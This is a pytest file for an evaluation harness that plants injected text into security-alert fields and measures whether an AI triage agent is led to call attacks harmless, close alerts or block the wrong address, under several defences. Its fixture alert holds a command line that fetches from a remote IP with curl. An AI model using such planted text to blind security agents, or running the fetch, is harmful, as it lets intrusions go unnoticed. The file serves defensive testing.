"""The measurement of planted text: where it goes, what is counted."""

from __future__ import annotations

import pytest

from aegis_agents.model import FastModel
from aegis_agents.records import ProposedAction, Target
from aegis_agents.sources import parse
from evals import counterfactual as measured
from evals.counterfactual import Planted, Run, rate, to_markdown, turns
from evals.injections import BYSTANDER, framing, silencing
from evals.injections_adaptive import _weight
from evals.injections_cases import DEFENCES, Outcome, Unit, Would, named
from evals.injections_innocent import LOOKALIKES, PLAIN
from evals.planting import at_position, name_positions, rewritten, woven

ALERT = {
    "title": "Shell started", "hostname": "ws-014", "username": "m.berg", "command_line": "curl -s http://203.0.113.9/x",
    "severity": "high",
}  # fmt: skip
BLOCK = ("block_ip", "ip", "203.0.113.9")
CLOSE = ("close_alert", "alert", "a-1")


def unit(name: str = "one", truth: str = "attack") -> Unit:
    return Unit(name, "situations", truth, ALERT, "", (("command_line",), ("title",)), (("username",),))  # type: ignore[arg-type]


def outcome(verdict: str, *would: Would) -> Outcome:
    return Outcome(verdict, 0.9, would, frozenset())


def test_woven_text_stands_between_the_words_and_loses_none() -> None:
    assert woven("a b c", "1 2 3 4 5 6") == "a 1 2 b 3 4 c 5 6"
    assert woven("a b c", "1") == "a 1 b c"
    assert sorted(woven("one", "1 2 3").split()) == ["1", "2", "3", "one"]


def test_names_are_found_where_the_sensor_vouches_for_them() -> None:
    assert set(name_positions(ALERT)) == {("hostname",), ("username",)}
    changed = rewritten(ALERT, [("username",)], str.upper)
    assert (at_position(changed, ("username",)), ALERT["username"]) == ("M.BERG", "m.berg")


def test_texts_take_turns_at_fields_and_the_last_goes_everywhere() -> None:
    plans = turns([unit()], [("s", "PLANTED1"), ("s", "PLANTED2"), ("s", "PLANTED3")], 2)
    values = [alert["command_line"] + "|" + alert["title"] for _, _, alert in plans]
    assert [v.count("PLANTED") for v in values] == [1, 1, 2]
    assert len(set(values)) == 3


def test_bounds_are_exact() -> None:
    # No event in 299 cases is what it takes to be sure of less than one in a hundred (0.99 ** 299 < 0.05).
    assert rate(0, 299)["at most"] == pytest.approx(1 - 0.05 ** (1 / 299), abs=1e-9)
    assert rate(0, 299)["at most"] < 0.01 < rate(0, 298)["at most"] + 1e-4
    assert rate(0, 0) == {"k": 0, "n": 0, "share": None, "at most": 1.0}


def test_a_case_counts_where_any_of_its_texts_got_through() -> None:
    run = Run(bench=None, every=1)  # type: ignore[arg-type]
    calm = Would(CLOSE, True, frozenset({"signs", "counterfactual"}))
    for name in ("one", "two"):
        run.before["attack", name] = outcome("true_positive", Would(BLOCK, True, frozenset()))
    planted = [
        Planted(unit("one"), "a", outcome("true_positive", Would(BLOCK, True, frozenset()))),
        Planted(unit("one"), "a", outcome("benign_positive", calm)),
        Planted(unit("two"), "b", outcome("true_positive", Would(("block_ip", "ip", "8.8.8.8"), True, frozenset({"named"})))),
        Planted(unit("two"), "b", None),
    ]  # fmt: skip
    found = measured.count(run, planted)
    assert found["verdict turned to harmless"] == {"cases": rate(1, 2), "texts": rate(1, 4)}
    assert found["closed alone, defences: none"]["cases"]["k"] == 1
    assert found["closed alone, defences: signs alone"]["cases"]["k"] == 0
    assert found["closed alone, defences: named alone"]["cases"]["k"] == 1
    assert found["new containment, defences: none"]["cases"]["k"] == 1  # the other address, not the one before
    assert found["new containment, defences: all"]["cases"]["k"] == 0
    assert found["no longer read as an alert"] == 1
    styles = measured.by_style(run, planted)
    assert styles["a"] == {"texts": 2, "verdict turned": 1, "without defences": 1, "with all": 0}
    text = to_markdown({"model": "m", "part": "test", "cases": {}, "texts": {}, "suite": found | {"by style": styles}})
    assert "1/2 (50.0 %" in text
    assert "| a | 2 | 1 | 1 | 0 |" in text


def test_signs_are_a_note_beside_the_counterfactual_check_and_a_bar_without_it() -> None:
    """As the gate decides: see aegis_agents.gate.Gate.decide."""
    block = ("block_ip", "ip", "203.0.113.7")
    signed = outcome("true_positive", Would(block, True, frozenset({"signs"})))
    assert signed.done(("signs",)) == signed.done(("signs", "named")) == frozenset()
    assert signed.done(DEFENCES) == signed.done(("counterfactual",)) == {block}
    closing = outcome("benign_positive", Would(CLOSE, True, frozenset({"signs"})))
    assert closing.done(DEFENCES) == frozenset()
    assert closing.done(("counterfactual",)) == {CLOSE}


def test_an_alert_without_an_id_is_the_same_alert_with_a_text_in_it() -> None:
    """Its id is then a hash of all that it says: the text changes the id, and not what is done."""
    ids = [parse(ALERT | {"command_line": text}).native_id for text in ("a", "b")]
    assert len(set(ids)) == 2
    closings = [
        named(ProposedAction(
            action_id=id, action="close_alert", target=Target(kind="alert", value=id), reason="calm", cites=()))
        for id in ids
    ]  # fmt: skip
    assert len(set(closings)) == 1


def test_the_texts_are_many_and_each_is_its_own() -> None:
    assert len({t for _, t in silencing()}) == len(silencing()) >= 100
    assert len(set(LOOKALIKES)) == len(LOOKALIKES) >= 90
    assert not set(LOOKALIKES) & set(PLAIN)
    assert any(BYSTANDER["domain"] in t for _, t in framing())
    for _, text in silencing():
        assert parse(ALERT | {"command_line": text}).facts


def test_the_adaptive_attacker_reads_the_words_that_ship() -> None:
    model = FastModel(threads=1)
    assert _weight(model, "qqzzxyq") == 0.0, "a word that nobody wrote"
    weights = {word: _weight(model, word) for word in ("maintenance", "approved", "beacon", "mimikatz", "scheduled")}
    assert any(weights.values())
    for word, weight in weights.items():
        if weight:
            assert (model._lexical.attack_odds([word]) > model._lexical._bias) == (weight > 0)
